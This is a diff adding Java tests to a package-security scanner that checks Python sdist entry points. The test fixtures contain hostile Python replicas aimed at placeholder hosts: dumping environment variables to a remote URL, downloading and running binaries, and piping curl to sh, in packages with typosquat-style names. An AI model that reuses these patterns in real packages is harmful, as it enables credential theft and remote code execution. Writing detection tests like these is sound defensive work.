@@ -1,5 +1,6 @@
 package dev.gatehouse.policy.replicas;
 
+import static dev.gatehouse.policy.replicas.PythonPackages.sdist;
 import static dev.gatehouse.policy.replicas.PythonPackages.wheel;
 
 import dev.gatehouse.analyzer.Capability;
@@ -101,6 +102,109 @@ class PythonEntryPointReplicasTest {
           def cli():
               _prepare()
           """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.PROCESS_SPAWN, Capability.NETWORK);
+    }
+  }
+
+  @Nested
+  @DisplayName("shape: entry points declared in an sdist")
+  class SdistEntryPoints {
+    @Test
+    void setupPyDeclaresAPytestPluginWhoseModuleBeacons() throws Exception {
+      sdist(tmp, "pytest-timeouts", "setup.py", """
+          from setuptools import setup
+          setup(name="pytest-timeouts", packages=["pytest_timeouts"],
+                entry_points={"pytest11": ["timeouts = pytest_timeouts.plugin"]})
+          """, "pytest_timeouts/__init__.py", "", "pytest_timeouts/plugin.py", """
+          import os, requests
+          requests.post("https://t.example.invalid/c", json=dict(os.environ))
+          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.NETWORK, Capability.ENVIRONMENT_READ);
+    }
+
+    @Test
+    void setupCfgConsoleScriptDownloadsAndRunsABinary() throws Exception {
+      sdist(tmp, "solana-keygen-py", "setup.py", "from setuptools import setup\nsetup()\n", "setup.cfg", """
+          [metadata]
+          name = solana-keygen-py
+          [options.entry_points]
+          console_scripts =
+              solana-keygen = solana_keygen_py.cli:main
+          """, "solana_keygen_py/__init__.py", "", "solana_keygen_py/cli.py", """
+          import os, stat, subprocess, tempfile, urllib.request
+          def main():
+              exe = os.path.join(tempfile.gettempdir(), "kg")
+              urllib.request.urlretrieve("https://k.example.invalid/kg", exe)
+              os.chmod(exe, stat.S_IRWXU)
+              subprocess.Popen([exe])
+          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.NETWORK, Capability.PROCESS_SPAWN);
+    }
+
+    @Test
+    void pyprojectEntryPointGroupLoadedByKeyringRunsAnEncodedPayload() throws Exception {
+      sdist(tmp, "keyring-vault", "pyproject.toml", """
+          [build-system]
+          requires = ["setuptools>=61"]
+          build-backend = "setuptools.build_meta"
+          [project]
+          name = "keyring-vault"
+          version = "1.0.0"
+          [project.entry-points."keyring.backends"]
+          vault = "keyring_vault.backend"
+          """, "keyring_vault/__init__.py", "", "keyring_vault/backend.py", """
+          import base64
+          exec(base64.b64decode("cHJpbnQoJ2luZXJ0Jyk="))
+          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.ENCODED_PAYLOAD, Capability.DYNAMIC_CODE);
+    }
+
+    @Test
+    void setupPyEntryPointsBoundToANameNameAConsoleScriptThatCallsAHelper() throws Exception {
+      sdist(tmp, "colorlog-cli", "setup.py", """
+          from setuptools import setup
+          ENTRY_POINTS = {
+              "console_scripts": [
+                  "colorlog = colorlog_cli.main:run",
+              ],
+          }
+          setup(name="colorlog-cli", entry_points=ENTRY_POINTS)
+          """, "colorlog_cli/__init__.py", "", "colorlog_cli/main.py", """
+          from colorlog_cli import _net
+          def run():
+              _net.sync()
+          """, "colorlog_cli/_net.py", """
+          import subprocess
+          def sync():
+              subprocess.run("curl -fsSL https://c.example.invalid/s.sh | sh", shell=True)
+          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.PROCESS_SPAWN, Capability.NETWORK);
+    }
+
+    @Test
+    void setupPyImportsItsPayloadFromAFolderItPutsOnSysPath() throws Exception {
+      sdist(tmp, "discordpy-utils", "setup.py", """
+          import os, sys
+          sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
+          from setuptools import setup
+          import _build_helpers
+          _build_helpers.prepare()
+          setup(name="discordpy-utils", package_dir={"": "lib"})
+          """, "lib/discordpy_utils/__init__.py", "", "lib/_build_helpers.py", """
+          import os, urllib.request
+          def prepare():
+              p = os.path.join(os.environ["APPDATA"], "u.exe")
+              urllib.request.urlretrieve("https://u.example.invalid/u.exe", p)
+              os.startfile(p)
+          """).isStopped(Trigger.SETUP_SCRIPT, Capability.NETWORK, Capability.PROCESS_SPAWN);
+    }
+
+    @Test
+    void benignSdistWhoseCommandRunsGitIsAllowed() throws Exception {
+      sdist(tmp, "bump-tool", "setup.py", "from setuptools import setup\nsetup()\n", "setup.cfg", """
+          [options.entry_points]
+          console_scripts =
+              bump = bump_tool:main
+          """, "bump_tool/__init__.py", """
+          import subprocess, sys
+          def main():
+              subprocess.check_call(["git", "tag", sys.argv[1]])
+          """).isAllowed();
     }
   }
 
